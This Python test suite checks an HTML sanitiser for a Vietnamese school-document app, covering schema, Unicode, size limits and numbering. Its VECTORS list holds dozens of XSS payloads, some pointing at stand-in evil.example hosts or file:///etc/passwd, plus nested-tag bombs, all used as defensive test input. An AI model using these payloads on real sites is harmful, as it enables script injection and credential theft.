"""The closed schema of written texts: what is kept, what is refused, and how it is numbered."""

import unicodedata
from html.parser import HTMLParser
from itertools import product
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from hypothesis import given
from hypothesis import strategies as st

from thiduakt.documents.richtext import Cell, Grid, Kind, Paragraph, Run, blocks, clean, letter, plain_text

PLAN = (Path(__file__).parent / "plan_2023.html").read_text()
PIECES = [
    *("<p>", "</p>", "<h2>", "</h2>", "<h3>", "</h3>", "<h4>", "</h4>", "<ul>", "</ul>", "<ol>", "</ol>", "<li>", "</li>"),
    *("<table>", "</table>", "<tr>", "<td colspan='2'>", "<th rowspan=1>", "</td>", "</tr>", "<thead>", "<tbody>"),
    *("<strong>", "</strong>", "<em>", "</em>", "<u>", "</u>", "<sub>", "<sup>", "<br>", "<b>", "<div>", "</div>", "<a>"),
    *("<script>", "</script>", "<!--", "-->", "<svg>", "<style>", "</style>", "<math>", "<textarea>", "<select>"),
    *("&nbsp;", "&#8203;", "&lt;", "&amp;", "&", "<", ">", '"', "\u0338", "\u200b", "\u202e", "\u00a0", "\x00", "\n", " "),
    *("Đỗ Thị Đào", unicodedata.normalize("NFD", "khen thưởng"), "e\u0301", "&#769;", "\ud800", "=\u0338", "\u037e"),
]


@given(st.lists(st.sampled_from(PIECES) | st.text(max_size=5), max_size=40).map("".join))
def test_a_cleaned_text_is_not_changed_by_cleaning_again(html):
    try:
        cleaned = clean(html)
    except ValidationError:
        return
    assert clean(cleaned) == cleaned


@given(st.lists(st.sampled_from(PIECES) | st.text(max_size=5), max_size=40).map("".join))
def test_no_word_of_a_cleaned_text_is_lost_in_print(html):
    try:
        cleaned = clean(html)
    except ValidationError:
        return
    printed = plain_text(cleaned)
    assert [word for word in Inventory(cleaned).words if word not in printed] == []


def test_the_real_plan_is_kept_as_it_is_and_takes_a_quarter_of_the_room():
    assert clean(PLAN) == "".join(PLAN.splitlines())
    assert len(PLAN) < 15_000


@pytest.mark.parametrize(
    ("written", "kept"),
    [
        ("<p>Tổ <b>Lá</b> <i>Mầm</i></p>", "<p>Tổ Lá Mầm</p>"),
        ('<p style="color:red" class="x" onclick="y()">Đỏ</p>', "<p>Đỏ</p>"),
        ('<p><a href="https://example.com">Xem</a> ảnh <img src="a.png"></p>', "<p>Xem ảnh </p>"),
        ("<p>Một<!-- ghi chú -->Hai</p>", "<p>MộtHai</p>"),
        ("<h1>To</h1><h2>Phần</h2>", "To<h2>Phần</h2>"),
        ("<ol start='4'><li><p>một</p></li></ol>", "<ol><li><p>một</p></li></ol>"),
    ],
)
def test_only_the_schema_is_kept(written, kept):
    assert clean(written) == kept


def test_spans_of_cells_are_kept_and_nothing_else_of_them():
    table = (
        '<table><tr><td colspan="3" rowspan="1" style="x" width="9">a</td><th colspan="0" rowspan="2">b</th></tr></table>'
    )
    assert clean(table) == (
        '<table><tbody><tr><td colspan="3">a</td><th rowspan="2">b</th></tr></tbody></table>'
    )  # fmt: skip


def test_text_is_composed():
    assert clean(unicodedata.normalize("NFD", "<p>Đỗ Thị Đào, Tổ trưởng</p>")) == "<p>Đỗ Thị Đào, Tổ trưởng</p>"


def test_composing_never_breaks_a_tag():
    assert clean("<p>\u0338a</p>") == "<p>\u0338a</p>"


def test_a_combining_mark_written_as_an_entity_is_composed_too():
    assert clean("<p>e&#769;</p>") == "<p>é</p>"


@pytest.mark.parametrize("blank", ["\u00a0", "&nbsp;", "&#160;", "\u2003", "\u202f"])
def test_every_kind_of_blank_is_an_ordinary_space(blank):
    assert clean(f"<p>năm{blank}2023</p>") == "<p>năm 2023</p>"


@pytest.mark.parametrize(
    "invisible", ["\u200b", "&#8203;", "\u202e", "\u2066", "\ufeff", "\u00ad", "\x00", "\x0b", "\ue000", "\ud800"]
)
def test_invisible_characters_are_dropped(invisible):
    assert clean(f"<p>Giấy{invisible}khen</p>") == "<p>Giấykhen</p>"


def test_empty_lines_and_items_are_dropped():
    assert clean("<h2></h2><p> </p><p>a</p><p><br></p><ul><li><p></p><ul><li></li></ul></li></ul>") == "<p>a</p>"


def test_a_template_tag_stays_as_it_was_typed():
    assert clean("<p>{{7*7}} {% load x %} ${7*7} #{7*7}</p>") == "<p>{{7*7}} {% load x %} ${7*7} #{7*7}</p>"


VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<img/src=x/onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='file:///etc/passwd'>",
    "<link rel=attachment href='file:///etc/passwd'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<p style='background:url(http://evil.example)'>x</p>",
    "<p style='position:fixed;width:100%'>x</p>",
    "<td colspan='2 onmouseover=alert(1)'>x</td>",
    "<table background='javascript:alert(1)'><tr><td>x</td></tr></table>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<form action='//evil.example'><input name=password><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>x</body>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='//evil.example/'>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "</p><script>alert(1)</script><p>",
    "<p/onclick=alert(1)>x</p>",
    "<p onclick\n=\nalert(1)>x</p>",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]
SURROUNDINGS = [
    "{}",
    "<p>{}</p>",
    "<ul><li><p>{}</p></li></ul>",
    "<ol><li>{}</li></ol>",
    "<h2>{}",
]


class Inventory(HTMLParser):
    """Every tag and attribute that a browser would see."""

    def __init__(self, html):
        super().__init__()
        self.tags, self.attributes, self.others, self.words = set(), set(), [], []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= set(attrs)

    def handle_data(self, data):
        self.words += data.split()

    def handle_comment(self, data):
        self.others.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


@pytest.mark.parametrize(("vector", "surrounding"), [*product(VECTORS, SURROUNDINGS)])
def test_nothing_that_acts_survives(vector, surrounding):
    found = Inventory(clean(surrounding.format(vector)))
    assert found.tags <= {"h2", "p", "ul", "ol", "li", "table", "tbody", "tr", "td"}
    assert found.attributes == set()
    assert found.others == []


def test_the_inventory_of_a_harmful_text_is_not_empty():
    found = Inventory("<p onclick='x()'>a</p><!-- b --><script>c</script>")
    assert (found.tags, found.attributes, found.others) == ({"p", "script"}, {("onclick", "x()")}, [" b "])


def refusal(html):
    with pytest.raises(ValidationError) as refused:
        clean(html)
    return refused.value.message


def test_a_text_of_sixty_thousand_characters_is_taken_and_one_more_is_refused():
    longest = "<p>" + "ệ" * (60_000 - 7) + "</p>"
    assert clean(longest) == longest
    assert refusal(longest + " ") == (
        "Nội dung dài 60.001 ký tự, quá giới hạn 60.000 ký tự. "
        "Thầy/cô hãy rút gọn, hoặc chuyển bớt phần chi tiết sang phụ lục."
    )


@pytest.mark.parametrize(
    ("typed", "stored"),
    [
        ("<ul><li>Dạy <em>tốt</em></li></ul>", "<ul><li><p>Dạy <em>tốt</em></p></li></ul>"),
        ("<ul><li>Một<ul><li>Hai</li></ul></li></ul>", "<ul><li><p>Một</p><ul><li><p>Hai</p></li></ul></li></ul>"),
        ("<ol><li><p>Một</p></li></ol>", "<ol><li><p>Một</p></li></ol>"),
    ],
)
def test_the_text_of_an_item_stands_in_a_paragraph(typed, stored):
    assert clean(typed) == clean(stored) == stored


def test_lists_within_lists_are_refused_beyond_twenty_levels():
    def nested(levels):
        return "<ul><li>" * levels + "<p>a</p>" + "</li></ul>" * levels

    assert clean(nested(9)) == nested(9)
    assert refusal(nested(10)) == "Nội dung lồng nhau quá 20 lớp. Thầy/cô hãy bớt các lớp danh sách lồng nhau."


@pytest.mark.parametrize("bomb", ["<ul><li>" * 7_000, "<p><em>" * 8_000, "<u>" * 19_000, "<strong><p>" * 5_000])
def test_a_bomb_of_nested_tags_is_refused(bomb):
    assert refusal(bomb + "a").startswith("Nội dung")


def row(cells):
    return "<table><tbody><tr>" + cells + "</tr></tbody></table>"


def test_a_table_of_five_hundred_rows_is_taken_and_one_more_is_refused():
    def table(rows):
        return "<table><tbody>" + "<tr><td>a</td></tr>" * rows + "</tbody></table>"

    assert clean(table(500)) == table(500)
    assert refusal(table(501)) == "Các bảng có quá 500 dòng. Thầy/cô hãy chuyển bớt sang phụ lục."


def test_the_rows_of_all_tables_are_counted_together():
    assert refusal(row("<td>a</td>") * 501).startswith("Các bảng có quá 500 dòng.")


def test_two_thousand_paragraphs_are_taken_and_one_more_is_refused():
    assert clean("<p>a</p>" * 2_000) == "<p>a</p>" * 2_000
    assert refusal("<h2>a</h2>" * 2_001) == "Nội dung có quá 2.000 đoạn. Thầy/cô hãy ghép các đoạn ngắn lại."


def test_a_cell_over_twenty_rows_is_taken_and_over_more_is_refused():
    assert clean(row('<td rowspan="20">a</td>')) == row('<td rowspan="20">a</td>')
    assert refusal(row('<td rowspan="21">a</td>')) == "Có ô gộp quá 20 dòng hoặc cột. Thầy/cô hãy tách ô đó ra."


def test_a_table_of_twenty_columns_is_taken_and_one_more_is_refused():
    assert clean(row('<td colspan="19">a</td><td>b</td>')) == row('<td colspan="19">a</td><td>b</td>')
    assert refusal(row('<td colspan="19">a</td><td>b</td><td>c</td>')) == (
        "Có bảng rộng quá 20 cột. Thầy/cô hãy chia thành nhiều bảng."
    )


def test_cells_that_reach_down_take_columns_of_the_rows_below():
    def table(below):
        return row('<td rowspan="2">a</td>' * 15 + "</tr><tr>" + "<td>b</td>" * below)

    assert clean(table(5)) == table(5)
    assert clean(table(5) * 2) == table(5) * 2
    assert refusal(table(6)) == "Có bảng rộng quá 20 cột. Thầy/cô hãy chia thành nhiều bảng."


def test_a_table_in_a_cell_is_refused():
    assert refusal(row("<td>" + row("<td>a</td>") + "</td>")) == (
        "Có bảng nằm trong ô của một bảng khác. Thầy/cô hãy tách thành hai bảng riêng."
    )


def test_headings_are_numbered_and_start_again_under_a_higher_one():
    html = (
        "<h2>Mục đích</h2><h3>Chung</h3><h3>Riêng</h3><h4>Một</h4><h4>Hai</h4><h3>Ba</h3><h4>Bốn</h4>"
        "<h2>Nội dung</h2><h3>Năm</h3>"
    )  # fmt: skip
    assert plain_text(html).split("\n") == [
        *("I. Mục đích", "1. Chung", "2. Riêng", "2.1. Một", "2.2. Hai", "3. Ba", "3.1. Bốn", "II. Nội dung", "1. Năm"),
    ]


def test_items_are_labelled_by_their_place():
    html = (
        "<ul><li><p>gạch</p><p>tiếp</p><ul><li><p>cộng</p></li></ul></li></ul>"
        "<ol><li><p>một</p><ul><li><p>gạch</p></li></ul></li><li>hai</li></ol>"
    )
    assert [(block.kind, block.text) for block in blocks(html)] == [
        (Kind.DASH, "- gạch"),
        (Kind.PARAGRAPH, "tiếp"),
        (Kind.PLUS, "+ cộng"),
        (Kind.LETTER, "a) một"),
        (Kind.DASH, "- gạch"),
        (Kind.LETTER, "b) hai"),
    ]


def test_letters_follow_the_vietnamese_alphabet():
    assert [letter(number) for number in (1, 4, 5, 6, 10, 23, 24)] == ["a", "d", "đ", "e", "k", "y", "aa"]


def test_looks_are_kept_and_blanks_are_printed_once():
    html = "<p> Số <strong> <em>CO</em><sub>2</sub> </strong> và\n m<sup>2</sup><br> <u>xong</u> <br><em> </em></p>"
    assert blocks(html) == [
        Paragraph(
            Kind.PARAGRAPH,
            "",
            (
                Run("Số "),
                Run("CO", bold=True, italic=True),
                Run("2", bold=True, sub=True),
                Run(" ", bold=True),
                Run("và m"),
                Run("2", sup=True),
                Run("\n"),
                Run("xong", underline=True),
            ),
        )
    ]


def test_a_heading_is_bold_throughout():
    assert blocks("<h2>Phần <em>một</em></h2>") == [
        Paragraph(Kind.PART, "I.", (Run("Phần ", bold=True), Run("một", bold=True, italic=True)))
    ]


def test_words_outside_of_any_paragraph_are_not_lost():
    assert plain_text("đầu<p>giữa</p>cuối<strong><p>đậm</p></strong>") == "đầu\ngiữa\ncuối\nđậm"


def test_a_table_keeps_its_cells_and_its_header_rows():
    html = (
        '<table><tbody><tr><th><p>STT</p></th><th colspan="2">Tên</th></tr>'
        '<tr><td rowspan="2">1</td><td>Đào</td><td>Hoa</td></tr></tbody></table>'
    )

    def paragraph(text):
        return (Paragraph(Kind.PARAGRAPH, "", (Run(text),)),)

    assert blocks(html) == [
        Grid(
            (
                (Cell(paragraph("STT"), is_header=True), Cell(paragraph("Tên"), is_header=True, colspan=2)),
                (Cell(paragraph("1"), rowspan=2), Cell(paragraph("Đào")), Cell(paragraph("Hoa"))),
            ),
            header_rows=1,
        )
    ]
    assert plain_text(html) == "STT\tTên\n1\tĐào\tHoa"
